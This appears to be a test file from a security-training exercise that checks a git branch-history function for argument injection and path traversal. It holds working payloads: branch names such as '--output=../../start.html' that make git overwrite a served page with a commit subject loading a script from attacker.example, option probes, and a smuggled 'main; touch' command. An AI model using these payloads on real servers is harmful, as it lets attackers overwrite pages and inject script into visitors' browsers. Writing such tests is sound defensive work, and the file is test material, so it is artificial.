import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync } from 'node:fs'
import { makeRepository, openPrograms } from '#proof/programs'
import type { Breach, Vary } from '#proof/vary'

type Code = typeof import('./typescript/branch-history.ts')

function makeProject(vary: Vary) {
  openPrograms()
  const folder = `repositories-${vary.word()}${vary.number(100, 999)}`
  const project = `${vary.word().toLowerCase()}-${vary.number(1, 99)}`
  mkdirSync(folder)
  const word = vary.word().toLowerCase()
  const script = `<script src="https://${word}.attacker.example/x.js"></script>`
  const changes = [
    { branch: 'main', subject: `Begin the site of ${vary.name()}`, file: 'index.md', text: '# Site' },
    { branch: `feature/${word}-2.0`, subject: 'Add the keys', file: 'keys.md', text: '# Keys' },
    { branch: `fix/größe+${vary.number(1, 99)}@${word}#1`, subject: `Say "it's ${word}" & more`, file: 'size.md', text: '# Size' },
    { branch: `output=${word}.html`, subject: script, file: 'start.md', text: '# Start' },
  ]
  makeRepository(`${folder}/${project}.git`, changes)
  return { folder, project, changes, script, word }
}

export async function works({ branchHistory, NotFound }: Code, vary: Vary) {
  const { folder, project, changes, word } = makeProject(vary)
  const main = await branchHistory(folder, project, ' main ')
  const [first] = changes
  assert.deepEqual(main.map(({ subject, files }) => [subject, files]), [[first?.subject, ['index.md']]], 'The history of main should have its commit, with the file that it changed.')
  const feature = await branchHistory(folder, project, `feature/${word}-2.0`)
  assert.deepEqual(feature.map(({ files }) => files), [['keys.md'], ['index.md']], 'The history of a branch should have its own commit and those before it.')
  const other = await branchHistory(folder, project, `output=${word}.html`)
  assert.deepEqual(other.map(({ files }) => files), [['start.md'], ['size.md'], ['keys.md'], ['index.md']], `The history of the branch output=${word}.html should be listed.`)
  assert.equal(other[1]?.subject, changes[2]?.subject, 'A commit should have its subject, with all signs.')
  assert.match(String(other[0]?.hash), /^[0-9a-f]{40}$/, 'Each commit should have its hash.')
  await assert.rejects(branchHistory(folder, project, `${word}-unknown`), 'A branch that does not exist should be refused.')
  await assert.rejects(branchHistory(folder, `../${project}`, 'main'), NotFound, 'A project name that leads elsewhere should be refused.')
}

const branches = (page: string) => [
  `--output=../../${page}`,
  `---output=../../${page}`,
  `----output=../../${page}`,
  `-----output=../../${page}`,
  ` --output=../../${page}`,
  `\t--output=../../${page}`,
  `-\u00a0--output=../../${page}`.slice(1),
  `------output=../../${page}`,
  `- --output=../../${page}`,
  `--output=../../${page} `,
]

export async function exploit({ branchHistory }: Code, vary: Vary, payloads?: readonly string[]): Promise<Breach | false> {
  const { folder, project, changes, script, word } = makeProject(vary)
  const page = `${word}.html`
  for (const branch of payloads ?? vary.shuffle(branches(page))) {
    await branchHistory(folder, project, branch).catch(() => {})
    // Next to the folder of the repositories.
    const made = [page, 'start.html'].find((name) => existsSync(name))
    if (made === undefined) continue
    const text = readFileSync(made, 'utf8')
    const got = text.includes(script) ? `${made} of the server is now: ${text}` : `git has overwritten ${made} of the server`
    return { sent: `the branch ${branch}`, got }
  }
  // Other options do no damage today, and are still options of git.
  if (payloads === undefined)
    for (const branch of vary.shuffle(['-1', `-${vary.number(2, 9)}`, '-n5', '--all', ' --oneline', '-s', '--no-patch', '--max-count=3'])) {
      const commits = await branchHistory(folder, project, branch).catch(() => [])
      if (commits.length > 0)
        return { sent: `the branch ${branch}`, got: `${commits.length} commits, although there is no such branch: git has read the name as an option`, damage: 'Everybody who may open the page can give options to git, which has some that write files or start programs.' }
    }
  // Names may have all signs that git allows.
  const named = changes[2]?.branch ?? ''
  if (payloads === undefined) {
    await assert.doesNotReject(branchHistory(folder, project, named), `The history of the branch ${named} should be listed.`)
    const commits = await branchHistory(folder, project, named)
    assert.deepEqual(commits.map(({ files }) => files), [['size.md'], ['keys.md'], ['index.md']], `The history of the branch ${named} should be listed.`)
  }
  return false
}

// Attack mode: the learner writes the input.
export async function attack({ branchHistory }: Code, { branch }: { branch: string }, vary: Vary) {
  const { folder, project } = makeProject(vary)
  const answer = await branchHistory(folder, project, branch).then(
    (commits) => commits.map(({ hash, subject, files }) => `${hash.slice(0, 8)} ${subject} (${files.join(', ')})`).join('\n') || 'No commits.',
    String,
  )
  const isDone = existsSync('start.html')
  return { isDone, shown: isDone ? `start.html is now:\n${readFileSync('start.html', 'utf8')}` : answer }
}

export const attacks = [
  { input: { branch: '--output=../../start.html' }, isDone: true },
  { input: { branch: 'main' }, isDone: false },
  { input: { branch: 'main; touch ../../start.html' }, isDone: false },
]
